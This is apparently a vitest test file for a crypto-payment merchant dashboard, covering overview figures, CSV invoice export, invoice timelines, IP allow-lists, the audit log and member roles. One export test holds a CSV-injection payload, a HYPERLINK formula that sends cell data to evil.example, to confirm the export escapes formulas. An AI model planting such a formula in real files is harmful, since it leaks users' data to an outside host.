/**
 * Tests what the dashboard shows of a merchant in addition to its lists: figures, an export, timelines and
 * the audit log.
 */
import { decodeJwt } from 'jose'
import { beforeAll, describe, expect, it } from 'vitest'
import { newId } from '../../src/core/ids.ts'
import { paymentDays } from '../../src/oversight/overviews/store.ts'
import { invoiceCounts } from '../../src/payments/invoices/lists/count-store.ts'
import { aggregateOnce } from '../../src/platform/db/aggregate.ts'
import { inTransaction } from '../../src/platform/db/transaction.ts'
import { useDatabase } from '../support/database.ts'
import { depositRecords, invoiceRecords, quoteRecords, rateRecords } from '../support/payments/records.ts'
import type { ChangeOf } from '../support/records/records.ts'
import { moved, now } from '../support/records/values.ts'
import { deliveryRecords, eventRecords } from '../support/webhooks/records.ts'
import type { Person } from './api.ts'
import { type Seller, useShopApi } from './shop-api.ts'

const database = useDatabase()
const api = useShopApi(database)

let seller: Seller
let other: Seller
beforeAll(async () => {
  seller = await api.openSeller()
  other = await api.openSeller()
})

async function pay(invoiceId: string, amountMinor: bigint, methodId = 1): Promise<string> {
  const { address } = await api.shop.addressFor(invoiceId, methodId)
  const transfer = api.blocks.pay(address, amountMinor, methodId)
  await api.blocks.mine([transfer])
  await api.blocks.mine()
  const { id } = await depositRecords.one(api.shop.db, { transferKey: transfer.key }, 'id')
  return id
}

async function addMember(role: 'admin' | 'viewer'): Promise<Person> {
  const person = await api.register()
  const json = { email: person.email, role }
  const path = `/merchants/${seller.merchantId}/members`
  expect((await api.call('POST', path, { token: seller.token, json })).status).toBe(201)
  return person
}

async function aggregateAll(): Promise<void> {
  for (const aggregate of [paymentDays, invoiceCounts])
    while ((await inTransaction(database.db, (tx) => aggregateOnce(tx, aggregate, 2))) > 0);
}

describe('the overview', () => {
  it('sums confirmed payments exactly by day and method, and counts the invoices by outcome', async () => {
    const first = await seller.createInvoice({ paymentMethodIDs: [3] })
    const second = await seller.createInvoice()
    await seller.createInvoice()
    await seller.createInvoice({ type: 'withdraw' })
    const early = await pay(first, 10_000_000n)
    const suspect = await seller.createInvoice()
    const held = await pay(suspect, 10_000_000n)
    await depositRecords.change(
      database.db,
      { id: held },
      { quarantine: 'held', amlVerdict: 'listed', feeMinor: null, netMinor: null },
    )
    await invoiceRecords.change(database.db, { id: suspect }, { createdAt: '2025-01-01T00:00:00Z' })
    await pay(second, 10_000_009n)
    await pay(await seller.createInvoice({ paymentMethodIDs: [3] }), 1_000_000_000_000_000n, 3)
    await pay(await other.createInvoice(), 10_000_000n)
    await depositRecords.change(database.db, { id: early }, { confirmedAt: '2026-02-28T23:59:59.999Z' })
    await invoiceRecords.change(database.db, { id: first }, { createdAt: '2026-03-01T00:00:00Z' })
    const [{ price } = { price: '0' }] = await rateRecords.all(database.db, { symbol: 'ETH' }, 'price')
    const today = new Date().toISOString().slice(0, 10)

    const spring = await seller.call('GET', '/overview?dateFrom=2026-02-28&dateTo=2026-03-01')
    expect(spring.status).toBe(200)
    expect(spring.body).toMatchObject({ volumeUsd: '10.00', payments: 1, unpricedPayments: 0 })
    expect(spring.body.conversion).toEqual({ created: 1, paid: 1, expired: 0, pending: 0, percent: '100.0' })
    expect(spring.body.days).toEqual([
      { day: '2026-02-28', volumeUsd: '10.00', payments: 1, invoicesCreated: 0, invoicesPaid: 0 },
      { day: '2026-03-01', volumeUsd: '0.00', payments: 0, invoicesCreated: 1, invoicesPaid: 1 },
    ])

    const { body: march } = await seller.call('GET', '/overview?dateFrom=2026-03-01&dateTo=2026-03-01')
    expect(march.before).toEqual({
      dateFrom: '2026-02-28',
      dateTo: '2026-02-28',
      volumeUsd: '10.00',
      payments: 1,
      volumeChangePercent: '-100.0',
      paymentsChangePercent: '-100.0',
      conversionPercent: null,
    })
    expect(spring.body.before).toMatchObject({ payments: 0, volumeUsd: '0.00', volumeChangePercent: null })

    const { body } = await seller.call('GET', `/overview?dateFrom=${today}&dateTo=${today}`)
    const etherUsd = Number(price) / 1e12 / 1000
    expect(body.methods).toEqual([
      {
        paymentMethodID: 1,
        symbol: 'USDT',
        network: 'ethereum',
        payments: 1,
        amount: '10.000009',
        volumeUsd: '10.00',
        volumePercent: expect.stringMatching(/^\d+\.\d$/),
      },
      {
        paymentMethodID: 3,
        symbol: 'ETH',
        network: 'ethereum',
        payments: 1,
        amount: '0.001',
        volumeUsd: etherUsd.toFixed(2),
        volumePercent: expect.stringMatching(/^\d+\.\d$/),
      },
    ])
    expect(body.volumeUsd).toBe((10 + etherUsd).toFixed(2))
    expect(body.conversion).toEqual({ created: 3, paid: 1, expired: 0, pending: 2, percent: '33.3' })
    const funds = await seller.call('GET', '/funds')
    expect(
      body.balances.entries.map(({ usd, ...entry }: { usd: string }) => (usd ? entry : undefined)),
    ).toEqual(funds.body)
    expect(body.balances.totalUsd).toMatch(/^\d+\.\d\d$/)
  })

  it('M16 is the same before its changes are aggregated by day and after, whatever the outcome of a payment', async () => {
    const shop = await api.openSeller()
    const day = new Date().toISOString().slice(0, 10)
    const read = async () => (await shop.call('GET', `/overview?dateFrom=${day}&dateTo=${day}`)).body
    const isSame = async (payments: number, volumeUsd: string) => {
      const before = await read()
      expect(before).toMatchObject({ payments, volumeUsd })
      await aggregateAll()
      expect(await read()).toEqual(before)
    }
    const id = await pay(await shop.createInvoice(), 10_000_000n)
    await pay(await shop.createInvoice(), 5_000_000n)
    await isSame(2, '15.00')
    expect((await read()).conversion).toMatchObject({ created: 2, paid: 1, pending: 1 })
    const update = (change: ChangeOf<typeof depositRecords>) =>
      depositRecords.change(database.db, { id }, change)
    await update({ quarantine: 'held', amlVerdict: 'listed', feeMinor: null, netMinor: null })
    await isSame(1, '5.00')
    await update({ quarantine: 'released', price: null })
    await isSame(2, '5.00')
    expect((await read()).unpricedPayments).toBe(1)
    await update({ confirmedAt: '2026-01-01T00:00:00Z' })
    await isSame(1, '5.00')
    await update({ quarantine: null, state: 'pending', confirmedAt: null })
    await isSame(1, '5.00')
    await update({ state: 'confirmed', confirmedAt: now, price: 1_000_000_000_000n })
    await isSame(2, '15.00')
  })

  it('takes no lock on payments and invoices, however many there are', async () => {
    await inTransaction(database.owner, async (tx) => {
      for (const records of [depositRecords, invoiceRecords]) await records.lockAll(tx, 'access exclusive')
      expect((await seller.call('GET', '/overview')).status).toBe(200)
    })
  })

  it('covers 30 days by default and 366 at most, and refuses days that do not exist', async () => {
    const { body } = await other.call('GET', '/overview')
    expect(body.days).toHaveLength(30)
    expect(body.dateTo).toBe(new Date().toISOString().slice(0, 10))
    const pointerOf = async (query: string) => {
      const answer = await other.call('GET', `/overview?${query}`)
      return [answer.status, answer.body.errors?.[0]?.pointer]
    }
    expect(await pointerOf('dateFrom=2026-02-30')).toEqual([400, 'query/dateFrom'])
    expect(await pointerOf('dateTo=26-1-1')).toEqual([400, 'query/dateTo'])
    expect(await pointerOf('dateFrom=2026-03-02&dateTo=2026-03-01')).toEqual([400, 'query/dateFrom'])
    expect(await pointerOf('dateFrom=2025-03-01&dateTo=2026-03-02')).toEqual([400, 'query/dateFrom'])
    expect((await other.call('GET', '/overview?dateFrom=2025-03-01&dateTo=2026-03-01')).status).toBe(200)
  })
})

describe('the export of invoices', () => {
  const lines = (text: string) => text.split('\r\n').slice(1, -1)

  it('is a CSV file without formulas that a spreadsheet would run', async () => {
    const shop = await api.openSeller()
    const evil = '=HYPERLINK("https://evil.example?"&A1,"a")'
    await shop.createInvoice({ description: evil, reference: '@SUM(1,2)' })
    const answer = await shop.call('GET', '/invoices/export')
    expect(answer.status).toBe(200)
    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="invoices.csv"')
    expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
    const [line = ''] = lines(answer.text)
    expect(line).toContain('"\'=HYPERLINK(""https://evil.example?""&A1,""a"")"')
    expect(line).toContain('"\'@SUM(1,2)"')
  })

  it('holds every matching invoice of the merchant exactly once, however many there are', async () => {
    const shop = await api.openSeller()
    const id = await shop.createInvoice({ description: 'first of many' })
    // Many invoices have the same creation time, so that batches of the export end between them.
    const invoice = await invoiceRecords.one(
      database.db,
      { id },
      'merchantId',
      'type',
      'amount',
      'amountUsd',
      'paymentMethodId',
      'paymentMethodIds',
      'expiresAt',
    )
    const copies = Array.from({ length: 1_300 }, (_, index) => index + 1).map((number) => ({
      ...invoice,
      id: newId(),
      createdAt: new Date(Date.UTC(2026, 0, 1, 0, 0, Math.floor(number / 700))),
      archivedAt: number % 10 === 0 ? now : null,
      description: `number ${number}`,
    }))
    await invoiceRecords.add(database.db, ...copies)
    const { text } = await shop.call('GET', '/invoices/export')
    const found = lines(text)
    expect(found).toHaveLength(1171)
    expect(new Set(found.map((line) => line.split(',')[0])).size).toBe(1171)
    expect(found[0]).toContain('first of many')
    const bySdk: string = await api
      .client({ token: shop.token })
      .exportInvoices({ merchantID: shop.merchantId })
    expect(lines(bySdk)).toEqual(found)
    const counted = async (query: string) =>
      lines((await shop.call('GET', `/invoices/export?${query}`)).text).length
    expect(await counted('showArchived=true')).toBe(1301)
    expect(await counted('dateTo=2026-01-01T00:00:00.000Z')).toBe(630)
    const numbers = Array.from({ length: 1300 }, (_, index) => index + 1)
    const with77 = numbers.filter((number) => number % 10 !== 0 && String(number).includes('77'))
    expect(await counted('search=number 77')).toBe(with77.length)
    expect(await counted('states[]=paid')).toBe(0)
    expect(await counted('amountFrom=11')).toBe(0)
    expect((await shop.call('GET', '/invoices/export?limit=5')).status).toBe(400)
    expect(lines((await other.call('GET', '/invoices/export')).text).join()).not.toContain('first of many')
  })

  it('may be started ten times a minute', async () => {
    const shop = await api.openSeller()
    const statuses: number[] = []
    for (let time = 0; time < 11; time++) statuses.push((await shop.call('GET', '/invoices/export')).status)
    expect(statuses).toEqual([...Array(10).fill(200), 429])
  })
})

describe('the timeline of an invoice', () => {
  it('covers quote, payment, credit and delivered events', async () => {
    const shop = await api.openSeller()
    const json = { url: 'https://shop.example/hook', secret: 'x'.repeat(32) }
    await api.call('POST', `/weebhook/${shop.merchantId}`, { token: shop.token, json })
    const id = await shop.createInvoice()
    const transactionID = await pay(id, 10_000_000n)
    const paidEvents = await eventRecords.all(
      database.db,
      { merchantId: shop.merchantId, type: 'invoice.paid' },
      'id',
    )
    await deliveryRecords.change(
      database.db,
      { eventId: paidEvents.map((event) => event.id) },
      { state: 'delivered', attempts: 2, endedAt: now },
    )
    // A block's time comes from the miner's clock, so it can differ from the database's clock. These times
    // are set so that the steps have a fixed order.
    await quoteRecords.change(database.db, {}, { quotedAt: moved('-1 minute') })
    await invoiceRecords.change(database.db, { id }, { createdAt: moved('-2 minutes') })
    await depositRecords.change(database.db, { id: transactionID }, { includedAt: moved('-1 second') })
    const { status, body } = await shop.call('GET', `/invoices/${id}/timeline`)
    expect(status).toBe(200)
    const steps = body.data.map(({ step, eventType }: { step: string; eventType?: string }) =>
      eventType === undefined ? step : `${step} ${eventType}`,
    )
    expect(steps.toSorted()).toEqual(
      [
        'invoice.created',
        'quote.given',
        'payment.included',
        'payment.confirmed',
        'invoice.paid',
        'webhook.delivered invoice.paid',
        'webhook.waiting transaction.detected',
        'webhook.waiting transaction.confirmed',
      ].toSorted(),
    )
    expect(steps.slice(0, 3)).toEqual(['invoice.created', 'quote.given', 'payment.included'])
    const entry = (step: string) => body.data.find((one: { step: string }) => one.step === step)
    expect(entry('quote.given')).toMatchObject({ amount: '10', currency: 'USDT', until: expect.any(String) })
    expect(entry('payment.confirmed')).toMatchObject({ transactionID, amount: '10', fee: '0.2', net: '9.8' })
    expect(entry('webhook.delivered')).toMatchObject({ attempts: 2, deliveryID: expect.any(String) })
    const times = body.data.map(({ at }: { at: string }) => at)
    expect(times).toEqual(times.toSorted())
  })

  it('shows every full payment of a reusable invoice, every reversed one, and nothing of other invoices', async () => {
    const shop = await api.openSeller()
    const id = await shop.createInvoice({ type: 'reusable' })
    await pay(id, 10_000_000n)
    await pay(id, 10_000_000n)
    const types = async () => {
      const { body } = await shop.call('GET', `/invoices/${id}/timeline`)
      return body.data.flatMap(({ eventType }: { eventType?: string }) => eventType ?? []).toSorted()
    }
    const twice = (...some: string[]) => some.flatMap((type) => [type, type]).toSorted()
    expect(await types()).toEqual(twice('invoice.paid', 'transaction.detected', 'transaction.confirmed'))
    await api.blocks.undo(2)
    expect(await types()).toEqual(
      [
        ...twice('invoice.paid', 'transaction.detected', 'transaction.confirmed'),
        'invoice.reverted',
        'transaction.reverted',
      ].toSorted(),
    )
    expect((await other.call('GET', `/invoices/${id}/timeline`)).status).toBe(404)
    const deleted = await shop.createInvoice()
    expect((await shop.call('DELETE', `/invoices/${deleted}`)).status).toBe(204)
    expect((await shop.call('GET', `/invoices/${deleted}/timeline`)).status).toBe(404)
  })
})

describe('the IP restriction', () => {
  it("is shown with the caller's address, and with whether a given list would exclude it", async () => {
    const path = `/ipAddress/${seller.merchantId}`
    const show = (query = '') => api.call('GET', `${path}${query}`, { token: seller.token })
    expect((await show()).body).toEqual({ ipAddresses: [], yourAddress: '127.0.0.1', locksYouOut: false })
    expect((await show('?ipAddresses[]=192.0.2.0/24')).body.locksYouOut).toBe(true)
    expect((await show('?ipAddresses[]=192.0.2.0/24&ipAddresses[]=127.0.0.0/8')).body.locksYouOut).toBe(false)
    const bad = await show('?ipAddresses[]=192.0.2.0/24&ipAddresses[]=300.1.1.1')
    expect([bad.status, bad.body.errors[0].pointer]).toEqual([400, 'query/ipAddresses/1'])
    await api.call('PUT', path, { token: seller.token, json: { ipAddresses: ['192.0.2.7'] } })
    expect((await show()).body).toEqual({
      ipAddresses: ['192.0.2.7'],
      yourAddress: '127.0.0.1',
      locksYouOut: true,
    })
    expect((await seller.call('GET', '')).status).toBe(403)
    await api.call('DELETE', path, { token: seller.token })
  })
})

describe('the audit log of a merchant', () => {
  it('shows who did what, newest first, to members who may change things', async () => {
    const shop = await api.openSeller()
    const path = `/merchants/${shop.merchantId}/audit`
    await api.call('PUT', `/ipAddress/${shop.merchantId}`, {
      token: shop.token,
      json: { ipAddresses: ['192.0.2.7'] },
    })
    const { status, body } = await api.call('GET', `${path}?limit=1`, { token: shop.token })
    expect(status).toBe(200)
    expect(body).toMatchObject({ total: expect.any(Number), page: 1, limit: 1 })
    expect(body.total).toBeGreaterThan(1)
    expect(body.data).toEqual([
      {
        id: expect.any(String),
        at: expect.stringMatching(/Z$/),
        action: 'merchant.ip_list_set',
        account: { id: decodeJwt(shop.token).sub, email: shop.email },
        subject: shop.merchantId,
        details: { ipAddresses: ['192.0.2.7'] },
      },
    ])
    expect((await api.call('GET', path, { key: shop.key })).status).toBe(403)
  })
})

describe('G01 a member of the merchant', () => {
  it('sees of the merchant what the role allows, and nothing of other merchants', async () => {
    const viewer = await addMember('viewer')
    const admin = await addMember('admin')
    const id = await seller.createInvoice()
    const below = `/merchants/${seller.merchantId}`
    for (const [path, viewerMay] of [
      [`${below}/overview`, true],
      [`${below}/invoices/export`, true],
      [`${below}/invoices/${id}/timeline`, true],
      [`/ipAddress/${seller.merchantId}`, true],
      [`${below}/audit`, false],
    ] as const) {
      const statusOf = async (token: string) => `${path} ${(await api.call('GET', path, { token })).status}`
      expect(await statusOf(admin.token)).toBe(`${path} 200`)
      expect(await statusOf(viewer.token)).toBe(`${path} ${viewerMay ? 200 : 403}`)
      expect(await statusOf(other.token)).toBe(`${path} 403`)
    }
  })
})
